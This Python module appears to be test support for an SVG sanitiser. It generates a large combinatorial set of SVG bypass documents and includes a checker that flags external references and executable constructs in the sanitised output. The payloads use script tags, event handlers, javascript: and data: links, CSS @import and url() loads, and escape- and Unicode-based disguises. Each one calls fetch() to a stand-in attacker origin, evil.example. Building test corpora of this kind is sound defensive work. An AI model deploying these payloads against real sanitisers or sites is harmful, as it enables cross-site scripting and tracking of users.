"""Generated SVG sanitiser bypass attempts, and a checker that judges a sanitised document on its own.

``bypass_documents(target)`` builds documents combinatorially: what to load or
run (a stylesheet, a declaration, a presentation attribute, a link, a script or
handler) x where to hide it (style text, the text after a child of <style>,
CDATA, split across children, nested or foreign elements, attributes, xlink vs
plain href) x how to disguise it (case, whitespace, CSS escapes and comments,
XML character references, Unicode that URL parsers fold away). Every external
reference points at ``target``, an origin such as ``http://evil.example`` or a
local server a browser test listens on.

``violations(output, host)`` is the judge. It knows nothing of the sanitiser:
it parses the output with the standard library, reads every attribute and all
text the way a browser would (CSS escapes decoded, comments dropped, Unicode
folded as a URL parser folds a host name) and lists every external reference
and every executable construct it finds.
"""

from __future__ import annotations

import re
import unicodedata
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from xml.sax.saxutils import escape, quoteattr

SVG_NS = "http://www.w3.org/2000/svg"
XLINK_NS = "http://www.w3.org/1999/xlink"
XHTML_NS = "http://www.w3.org/1999/xhtml"
XML_NS = "http://www.w3.org/XML/1998/namespace"
METADATA_NAMESPACES = {
    "http://www.w3.org/1999/02/22-rdf-syntax-ns#",
    "http://purl.org/dc/elements/1.1/",
    "http://creativecommons.org/ns#",
}
UNIT_TARGET = "http://evil.example"


@dataclass(frozen=True)
class Bypass:
    name: str
    document: bytes


def wrap(body: str, *, root_attrs: str = "", prolog: str = "") -> bytes:
    return (
        f'{prolog}<svg xmlns="{SVG_NS}" xmlns:xlink="{XLINK_NS}" width="120" height="80"{root_attrs}>'
        '<rect id="board" x="10" y="5" width="100" height="70" fill="#336699"/>'
        '<text x="12" y="20">Pin PA1</text>'
        f"{body}</svg>"
    ).encode()


# --------------------------------------------------------------------------
# What to load or run
# --------------------------------------------------------------------------

# Whole stylesheets; {T} is the target origin.
STYLESHEETS = {
    "import-url": "@import url({T}/import-url.css);",
    "import-string": '@import "{T}/import-string.css";',
    "import-media": "@import url('{T}/import-media.css') screen;",
    "font-face": "@font-face{{font-family:x;src:url({T}/font.woff)}}text{{font-family:x}}",
    "fill": "rect{{fill:url({T}/fill.svg#p)}}",
    "mask": "rect{{mask:url({T}/mask.svg#m)}}",
    "filter": "rect{{filter:url({T}/filter.svg#f)}}",
    "cursor": "svg{{cursor:url({T}/cursor.png),auto}}",
    "background": "svg{{background-image:url('{T}/background.png')}}",
    "mask-image": 'rect{{mask-image:url("{T}/mask-image.png")}}',
    "image-set": 'svg{{background-image:image-set("{T}/image-set.png" 1x)}}',
    "webkit-image-set": "svg{{background-image:-webkit-image-set(url({T}/webkit-image-set.png) 1x)}}",
    "src-function": 'rect{{mask-image:src("{T}/src.png")}}',
    "behavior": "rect{{behavior:url({T}/behavior.htc)}}",
    "moz-binding": "rect{{-moz-binding:url({T}/binding.xml#x)}}",
    "expression": "rect{{width:expression(fetch('{T}/expression'))}}",
    "javascript-url": "rect{{fill:url(javascript:fetch('{T}/javascript'))}}",
    "data-svg": "rect{{fill:url(\"data:image/svg+xml,<svg xmlns='{SVG}'><image href='{T}/data.png'/></svg>#p\")}}",
    "in-media": "@media screen{{rect{{fill:url({T}/in-media.svg#p)}}}}",
    "in-supports": "@supports (fill:red){{svg{{background:url({T}/in-supports.png)}}}}",
    "nested-rule": "g{{rect{{stroke:url({T}/nested-rule.svg#p)}}}}",
    "after-harmless-rule": "rect{{fill:url(#board)}} svg{{background:url({T}/after-harmless.png)}}",
}

# Declarations for style="...".
DECLARATIONS = {
    "fill": "fill:url({T}/decl-fill.svg#p)",
    "stroke": "stroke: url('{T}/decl-stroke.svg#p')",
    "filter": "filter:url({T}/decl-filter.svg#f)",
    "mask": "mask:url({T}/decl-mask.svg#m)",
    "clip-path": "clip-path:url({T}/decl-clip.svg#c)",
    "marker": "marker-start:url({T}/decl-marker.svg#m)",
    "cursor": "cursor:url({T}/decl-cursor.png),auto",
    "background": "background-image:url({T}/decl-background.png)",
    "image-set": 'background-image:image-set("{T}/decl-image-set.png" 1x)',
    "behavior": "behavior:url({T}/decl.htc)",
    "moz-binding": "-moz-binding:url({T}/decl.xml#x)",
    "expression": "width:expression(fetch('{T}/decl-expression'))",
    "javascript-url": "fill:url(javascript:fetch('{T}/decl-javascript'))",
    "after-harmless": "opacity:.5;fill:red;stroke:url({T}/decl-after.svg#p)",
}

# Presentation attributes whose value is a url().
PRESENTATION_ATTRIBUTES = ["fill", "stroke", "filter", "mask", "clip-path", "marker-start", "marker-end", "cursor"]

# Link targets; the first ones are external, the rest run script.
LINKS = {
    "absolute": "{T}/link.svg#a",
    "protocol-relative": "//{H}/link-relative.svg#a",
    "upper-scheme": "HTTP://{H}/link-upper.svg#a",
    "leading-space": "  {T}/link-space.svg#a",
    "tab-in-scheme": "ht&#9;tp://{H}/link-tab.svg#a",
    "newline-in-scheme": "ht&#10;tp://{H}/link-newline.svg#a",
    "char-references": "&#104;&#116;&#116;&#112;://{H}/link-refs.svg#a",
    "relative": "link-relative.svg#a",
    "javascript": "javascript:fetch('{T}/link-js')",
    "javascript-mixed-case": "JaVaScRiPt:fetch('{T}/link-js-case')",
    "javascript-entity-tab": "java&#x09;script:fetch('{T}/link-js-tab')",
    "javascript-refs": "&#x6A;avascript:fetch('{T}/link-js-refs')",
    "vbscript": "vbscript:msgbox(1)",
    "data-html": "data:text/html,&lt;script&gt;fetch('{T}/link-data-html')&lt;/script&gt;",
    "data-svg": "data:image/svg+xml,&lt;svg xmlns='{SVG}'&gt;&lt;image href='{T}/link-data-svg.png'/&gt;&lt;/svg&gt;",
    "data-svg-base64": "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=",
}

# Elements that carry an href, and how to place each.
LINK_ELEMENTS = {
    "use": '<use {A}="{U}"/>',
    "image": '<image {A}="{U}" width="10" height="10"/>',
    "feImage": '<filter id="fi"><feImage {A}="{U}"/></filter><rect width="5" height="5" filter="url(#fi)"/>',
    "a": '<a {A}="{U}"><text>open</text></a>',
    "pattern": '<pattern id="pp" {A}="{U}" width="4" height="4"/>',
    "linearGradient": '<linearGradient id="lg" {A}="{U}"/>',
    "textPath": '<path id="tp" d="M0 0L9 9"/><text><textPath {A}="{U}">x</textPath></text>',
    "script": '<script {A}="{U}"/>',
    "tref": '<text><tref {A}="{U}"/></text>',
    "cursor": '<cursor {A}="{U}"/>',
}
LINK_ATTRIBUTES = {
    "href": "href",
    "xlink-href": "xlink:href",
    "other-xlink-prefix": 'xmlns:l="http://www.w3.org/1999/xlink" l:href',
}

# Scripts, handlers, animation, embedded documents: each one would run or load something.
ACTIVE_ELEMENTS = {
    "script": "<script>fetch('{T}/script');window.top.__pwned=1</script>",
    "script-cdata": "<script><![CDATA[fetch('{T}/script-cdata');window.top.__pwned=1]]></script>",
    "script-nested": "<g><defs><script>fetch('{T}/script-nested')</script></defs></g>",
    "script-prefixed": "<s:script xmlns:s='{SVG}'>fetch('{T}/script-prefixed')</s:script>",
    "script-xhtml": "<h:script xmlns:h='{XHTML}'>fetch('{T}/script-xhtml')</h:script>",
    "script-in-metadata": "<metadata><script>fetch('{T}/script-metadata')</script></metadata>",
    "image-onerror": '<image href="#none" onerror="fetch(\'{T}/onerror\')" width="1" height="1"/>',
    "rect-onclick": "<rect width='1' height='1' onclick=\"fetch('{T}/onclick')\"/>",
    "namespaced-handler": "<g xmlns:ev='http://www.w3.org/2001/xml-events' ev:onload=\"fetch('{T}/ev')\"/>",
    "animate-onbegin": "<circle r='2'><animate attributeName='r' to='3' dur='1s' onbegin=\"fetch('{T}/onbegin')\"/>"
    "</circle>",
    "set-href-javascript": "<a href='#board'><set attributeName='href' to=\"javascript:fetch('{T}/set')\"/>"
    "<text>x</text></a>",
    "animate-use-href": "<use href='#board'><animate attributeName='href' values='{T}/animate.svg#a' dur='1s'/></use>",
    "set-fill": "<rect width='2' height='2'><set attributeName='fill' to='url({T}/set-fill.svg#p)'/></rect>",
    "animate-style": "<rect width='2' height='2'><animate attributeName='style' to='fill:url({T}/a.svg#p)'"
    " dur='1s'/></rect>",
    "animate-motion-mpath": "<circle r='1'><animateMotion dur='1s'><mpath href='{T}/mpath.svg#p'/></animateMotion>"
    "</circle>",
    "foreign-object-iframe": "<foreignObject width='9' height='9'><iframe xmlns='{XHTML}' src='{T}/iframe'/>"
    "</foreignObject>",
    "foreign-object-img": "<foreignObject width='9' height='9'><img xmlns='{XHTML}' src='{T}/fo-img.png'/>"
    "</foreignObject>",
    "foreign-object-script": "<foreignObject><script xmlns='{XHTML}'>fetch('{T}/fo-script')</script></foreignObject>",
    "xhtml-link-stylesheet": "<h:link xmlns:h='{XHTML}' rel='stylesheet' href='{T}/link.css'/>",
    "xhtml-iframe": "<h:iframe xmlns:h='{XHTML}' src='{T}/h-iframe'/>",
    "embed": "<embed src='{T}/embed.svg'/>",
    "object": "<object data='{T}/object.svg'/>",
    "iframe": "<iframe src='{T}/svg-iframe'/>",
    "handler": "<handler type='application/ecmascript'>fetch('{T}/handler')</handler>",
    "font-face-uri": "<font-face font-family='x'><font-face-src><font-face-uri xlink:href='{T}/font.svg#f'/>"
    "</font-face-src></font-face>",
    "xml-base": "<g xml:base='{T}/'><image href='xml-base.png' width='1' height='1'/></g>",
    "image-srcset-like": "<image href='#x' src='{T}/src.png' srcset='{T}/srcset.png 1x' width='1' height='1'/>",
}
# Attributes on the root element.
ROOT_ATTRIBUTES = {
    "onload": " onload=\"fetch('{T}/root-onload');window.__pwned=1\"",
    "onload-upper": " ONLOAD=\"fetch('{T}/root-onload-upper')\"",
    "xml-base": " xml:base='{T}/'",
    "style": " style='background-image:url({T}/root-style.png)'",
    "fill": " fill='url({T}/root-fill.svg#p)'",
}
# Processing instructions before the root.
PROLOGS = {
    "xml-stylesheet": '<?xml-stylesheet type="text/css" href="{T}/pi.css"?>',
    "xml-stylesheet-data": '<?xml-stylesheet type="text/css" href="data:text/css,@import url({T}/pi-data.css);"?>',
}


# --------------------------------------------------------------------------
# How to disguise CSS
# --------------------------------------------------------------------------

KEYWORDS = ("url(", "@import", "@font-face", "image-set(", "expression(", "src(", "behavior", "-moz-binding")


def _replace_keywords(css: str, change) -> str:
    for keyword in KEYWORDS:
        css = css.replace(keyword, change(keyword))
    return css


def _mixed(word: str) -> str:
    return "".join(ch.upper() if i % 2 else ch.lower() for i, ch in enumerate(word))


def _hex_escape_first_letter(word: str, *, width: int) -> str:
    at = 1 if word.startswith(("@", "-")) else 0
    if word.startswith("-moz"):
        at = 1
    code = f"{ord(word[at]):0{width}x}"
    separator = "" if width == 6 else " "
    return word[:at] + "\\" + code + separator + word[at + 1 :]


def _char_escape_second_letter(word: str) -> str:
    # \X with X not a hex digit stands for X itself.
    for i, ch in enumerate(word):
        if ch.isalpha() and ch.lower() not in "abcdef" and i > 0:
            return word[:i] + "\\" + ch + word[i + 1 :]
    return word


CSS_DISGUISES = {
    "plain": lambda css: css,
    "upper-case": lambda css: _replace_keywords(css, str.upper),
    "mixed-case": lambda css: _replace_keywords(css, _mixed),
    "whitespace": lambda css: css.replace("url(", "url(\n\t ").replace("@import", "@import\n\t").replace(")", " \t)"),
    "hex-escape": lambda css: _replace_keywords(css, lambda word: _hex_escape_first_letter(word, width=2)),
    "long-escape": lambda css: _replace_keywords(css, lambda word: _hex_escape_first_letter(word, width=6)),
    "char-escape": lambda css: _replace_keywords(css, _char_escape_second_letter),
    "comments": lambda css: "/* board */" + css.replace("@import", "@import/**/").replace(":", ":/*x*/"),
    "cdo-cdc": lambda css: "<!-- " + css + " -->",
    "escaped-scheme": lambda css: css.replace("http:", "\\68 ttp:"),
    "tab-in-scheme": lambda css: css.replace("http:", "ht\\9 tp:"),
    "line-continuation": lambda css: css.replace('"http', '"ht\\\ntp').replace("'http", "'ht\\\ntp"),
    "protocol-relative": lambda css: css.replace("http:", ""),
    "zero-width-host": lambda css: re.sub(r"(//[^/.:]+)", "\\1\u200b", css, count=1),
    "fullwidth-host": lambda css: re.sub(r"//([^/:]+)", lambda m: "//" + _fullwidth(m.group(1)), css),
}


def _fullwidth(text: str) -> str:
    # Full-width forms (U+FF01..U+FF5E): a URL parser maps them (IDNA, NFKC) back to ASCII host names.
    return "".join(chr(ord(ch) + 0xFEE0) if "!" <= ch <= "~" else ch for ch in text)


def _char_references(text: str) -> str:
    """Every letter as an XML character reference (the parser turns them back)."""
    return re.sub(r"&#?\w+;|([A-Za-z])", lambda m: f"&#{ord(m.group(1))};" if m.group(1) else m.group(0), text)


def _split_point(css: str) -> int:
    """Somewhere inside the first word that matters, so neither half looks dangerous alone."""
    lowered = css.lower()
    hits = [lowered.find(word) for word in ("@import", "url(", "@font-face", "image-set", "expression", "src(")]
    hits = [hit for hit in hits if hit >= 0]
    return (min(hits) + 2) if hits else len(css) // 2


def _cdata(text: str) -> str:
    return "<![CDATA[" + text.replace("]]>", "]]]]><![CDATA[>") + "]]>"


# Where a stylesheet can sit. Each place gets the raw CSS and returns SVG markup.
def _split(css: str, child: str) -> str:
    k = _split_point(css)
    return f"<style>{escape(css[:k])}{child}{escape(css[k:])}</style>"


def _split_three(css: str) -> str:
    k = _split_point(css)
    j = k + max(1, (len(css) - k) // 2)
    return f"<style>{escape(css[:k])}<g/>{escape(css[k:j])}<desc>d</desc>{escape(css[j:])}</style>"


STYLE_PLACES = {
    "style-text": lambda css: f"<style>{escape(css)}</style>",
    "style-type-and-media": lambda css: f'<style type="text/css" media="all">{escape(css)}</style>',
    "tail-after-child": lambda css: f"<style>rect{{stroke:red}}<g/>{escape(css)}</style>",
    "tail-after-desc": lambda css: f"<style><desc>note</desc>{escape(css)}</style>",
    "tail-after-unknown-element": lambda css: f'<style><x:y xmlns:x="urn:x"/>{escape(css)}</style>',
    "tail-after-nested-style": lambda css: f"<style><style>rect{{}}</style>{escape(css)}</style>",
    "tail-after-script": lambda css: f"<style><script>1</script>{escape(css)}</style>",
    "tail-after-comment": lambda css: f"<style><!-- c -->{escape(css)}</style>",
    "tail-after-processing-instruction": lambda css: f"<style><?pi x?>{escape(css)}</style>",
    "split-across-a-child": lambda css: _split(css, "<g/>"),
    "split-across-a-comment": lambda css: _split(css, "<!---->"),
    "split-three-ways": _split_three,
    "cdata": lambda css: f"<style>{_cdata(css)}</style>",
    "cdata-after-child": lambda css: f"<style>rect{{}}<g/>{_cdata(css)}</style>",
    "cdata-split": lambda css: f"<style>{_cdata(css[: _split_point(css)])}{escape(css[_split_point(css) :])}</style>",
    "child-text-of-style": lambda css: f"<style><g>{escape(css)}</g></style>",
    "char-references": lambda css: f"<style>{_char_references(escape(css))}</style>",
    "char-references-in-tail": lambda css: f"<style><g/>{_char_references(escape(css))}</style>",
    "in-defs": lambda css: f"<defs><style>{escape(css)}</style></defs>",
    "in-deep-groups": lambda css: f"<g><g><g><switch><style>{escape(css)}</style></switch></g></g></g>",
    "in-nested-svg": lambda css: f"<svg><style>{escape(css)}</style></svg>",
    "in-metadata": lambda css: f"<metadata><style>{escape(css)}</style></metadata>",
    "in-text": lambda css: f"<text>label<style>{escape(css)}</style></text>",
    "in-link": lambda css: f'<a href="#board"><style>{escape(css)}</style></a>',
    "in-unknown-element": lambda css: f'<x:wrap xmlns:x="urn:x"><style>{escape(css)}</style></x:wrap>',
    "prefixed-svg-style": lambda css: f'<s:style xmlns:s="{SVG_NS}">{escape(css)}</s:style>',
    "xhtml-style": lambda css: f'<h:style xmlns:h="{XHTML_NS}">{escape(css)}</h:style>',
    "xhtml-style-in-foreign-object": lambda css: (
        f'<foreignObject width="9" height="9"><style xmlns="{XHTML_NS}">{escape(css)}</style></foreignObject>'
    ),
    "upper-case-element": lambda css: f"<STYLE>{escape(css)}</STYLE>",
}

DECLARATION_PLACES = {
    "style-attribute": lambda decl: f"<rect width='5' height='5' style={quoteattr(decl)}/>",
    "style-attribute-on-group": lambda decl: f"<g style={quoteattr(decl)}><circle r='2'/></g>",
    "style-attribute-char-references": lambda decl: (
        f"<rect width='5' height='5' style={_char_references(quoteattr(decl))}/>"
    ),
    "style-attribute-with-newlines": lambda decl: (
        f"<rect width='5' height='5' style={quoteattr(decl.replace(':', ':' + chr(10)))}/>"
    ),
    "style-attribute-on-nested-svg": lambda decl: f"<svg style={quoteattr(decl)}><rect width='1' height='1'/></svg>",
    "style-attribute-in-metadata": lambda decl: (
        f"<metadata><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' style={quoteattr(decl)}/>"
        "</metadata>"
    ),
}


def _format(template: str, target: str) -> str:
    host = target.split("//", 1)[1]
    return template.format(T=target, H=host, SVG=SVG_NS, XHTML=XHTML_NS)


def bypass_documents(target: str = UNIT_TARGET) -> list[Bypass]:
    """Every generated bypass attempt, each pointing at ``target`` (an origin)."""
    documents: dict[bytes, Bypass] = {}

    def add(name: str, document: bytes) -> None:
        documents.setdefault(document, Bypass(name, document))

    for payload, template in STYLESHEETS.items():
        css = _format(template, target)
        for disguise, change in CSS_DISGUISES.items():
            disguised = change(css)
            if disguise != "plain" and disguised == css:
                continue  # this disguise does not apply to this payload
            for place, build in STYLE_PLACES.items():
                add(f"stylesheet/{payload}/{disguise}/{place}", wrap(build(disguised)))

    for payload, template in DECLARATIONS.items():
        declaration = _format(template, target)
        for disguise, change in CSS_DISGUISES.items():
            disguised = change(declaration)
            if disguise in ("cdo-cdc",) or (disguise != "plain" and disguised == declaration):
                continue
            for place, build in DECLARATION_PLACES.items():
                add(f"declaration/{payload}/{disguise}/{place}", wrap(build(disguised)))

    for attribute in PRESENTATION_ATTRIBUTES:
        value = _format("url({T}/attr-" + attribute + ".svg#p)", target)
        for disguise, change in CSS_DISGUISES.items():
            disguised = change(value)
            if disguise in ("cdo-cdc", "comments") or (disguise != "plain" and disguised == value):
                continue
            for element in ("rect", "g", "use", "svg"):
                add(
                    f"presentation/{attribute}/{disguise}/{element}",
                    wrap(f"<{element} {attribute}={quoteattr(disguised)}/>"),
                )
        add(f"presentation/{attribute}/foreign-namespace", wrap(f"<rect xmlns:x='urn:x' x:{attribute}='{value}'/>"))

    for kind, template in LINKS.items():
        url = _format(template, target)
        for element, markup in LINK_ELEMENTS.items():
            for attribute_name, attribute in LINK_ATTRIBUTES.items():
                add(f"link/{kind}/{element}/{attribute_name}", wrap(markup.format(A=attribute, U=url)))

    for name, template in ACTIVE_ELEMENTS.items():
        add(f"active/{name}", wrap(_format(template, target)))
    for name, template in ROOT_ATTRIBUTES.items():
        add(f"root-attribute/{name}", wrap("", root_attrs=_format(template, target)))
    for name, template in PROLOGS.items():
        add(f"prolog/{name}", wrap("", prolog=_format(template, target)))

    return list(documents.values())


# --------------------------------------------------------------------------
# The judge
# --------------------------------------------------------------------------

_CSS_HEX_ESCAPE = re.compile(r"\\([0-9a-fA-F]{1,6})[ \t\n\r\f]?")
_CSS_LINE_CONTINUATION = re.compile(r"\\(?:\r\n|[\n\r\f])")
_CSS_CHAR_ESCAPE = re.compile(r"\\(.)", re.DOTALL)
_CSS_COMMENT = re.compile(r"/\*.*?(?:\*/|\Z)", re.DOTALL)
_RASTER_DATA_URL = re.compile(r"\Adata:image/(?:png|jpeg|webp);base64,[a-z0-9+/=\s]*\Z", re.IGNORECASE)
_EXECUTABLE_ELEMENTS = {
    "script", "foreignobject", "iframe", "embed", "object", "handler", "listener", "set", "animate",
    "animatemotion", "animatetransform", "animatecolor", "mpath", "discard", "cursor", "tref",
    "font-face", "font-face-src", "font-face-uri", "link", "meta", "img",
}  # fmt: skip
# What must never appear in an attribute or in text, once read as a browser reads it.
_FORBIDDEN_MARKERS = (
    "@import", "@font-face", "image-set(", "expression(", "src(", "behavior", "-moz-binding",
    "javascript:", "vbscript:", "data:", "http:", "https:", "//",
)  # fmt: skip


def browser_reading(text: str) -> str:
    """``text`` as CSS and a URL parser see it: escapes decoded, comments gone, folded, no whitespace."""

    def hex_escape(match: re.Match) -> str:
        code = int(match.group(1), 16)
        return chr(code) if 0 < code <= 0x10FFFF and not 0xD800 <= code <= 0xDFFF else "\ufffd"

    text = _CSS_LINE_CONTINUATION.sub("", text)
    text = _CSS_HEX_ESCAPE.sub(hex_escape, text)
    text = _CSS_CHAR_ESCAPE.sub(r"\1", text)
    text = _CSS_COMMENT.sub("", text)
    text = "".join(ch for ch in text if unicodedata.category(ch) != "Cf")  # zero-width and bidi marks
    text = unicodedata.normalize("NFKC", text).casefold()
    return re.sub(r"\s+", "", text)


def _text_problems(where: str, text: str | None, host: str) -> list[str]:
    if not text:
        return []
    read = browser_reading(text)
    problems = [f"{where}: {marker!r} in {text!r}" for marker in _FORBIDDEN_MARKERS if marker in read]
    if host in read:
        problems.append(f"{where}: the external host in {text!r}")
    for match in re.finditer(r"url\((['\"]?)", read):
        if not read[match.end() :].startswith("#"):
            problems.append(f"{where}: url() to something other than a #fragment in {text!r}")
    return problems


def violations(output: bytes, target: str = UNIT_TARGET) -> list[str]:
    """Every external reference or executable construct in ``output`` (an SVG document)."""
    host = browser_reading(target.split("//", 1)[1])
    problems = []
    raw = browser_reading(output.decode("utf-8"))
    if host in raw:
        problems.append("document: the external host appears in the bytes")
    if "<?xml-stylesheet" in output.decode("utf-8"):
        problems.append("document: an xml-stylesheet processing instruction")
    root = ET.fromstring(output)  # noqa: S314 - the sanitiser's output: no DTD, no entities
    metadata_depth = {root: False}
    for parent in root.iter():
        for child in parent:
            metadata_depth[child] = metadata_depth[parent] or parent.tag == f"{{{SVG_NS}}}metadata"
    for element in root.iter():
        ns, _, local = element.tag[1:].partition("}") if element.tag.startswith("{") else ("", "", element.tag)
        where = f"<{local}>"
        if ns != SVG_NS and not (ns in METADATA_NAMESPACES and metadata_depth[element]):
            problems.append(f"{where}: element outside the SVG namespace ({ns or 'none'})")
        if local.lower() in _EXECUTABLE_ELEMENTS:
            problems.append(f"{where}: executable or loading element")
        for key, value in element.attrib.items():
            name = key.rpartition("}")[2]
            if name.lower().startswith("on"):
                problems.append(f"{where}: event handler {key}")
            if key == f"{{{XML_NS}}}base":
                problems.append(f"{where}: xml:base")
            if name.lower() in ("href", "src", "srcset", "data"):
                compact = re.sub(r"[\x00-\x20]", "", value)
                if not (compact.startswith("#") or (local == "image" and _RASTER_DATA_URL.match(compact))):
                    problems.append(f"{where}: {key}={value!r} leaves the document")
                continue
            problems += _text_problems(f"{where} @{name}", value, host)
        problems += _text_problems(f"{where} text", element.text, host)
        problems += _text_problems(f"{where} tail", element.tail, host)
    return problems
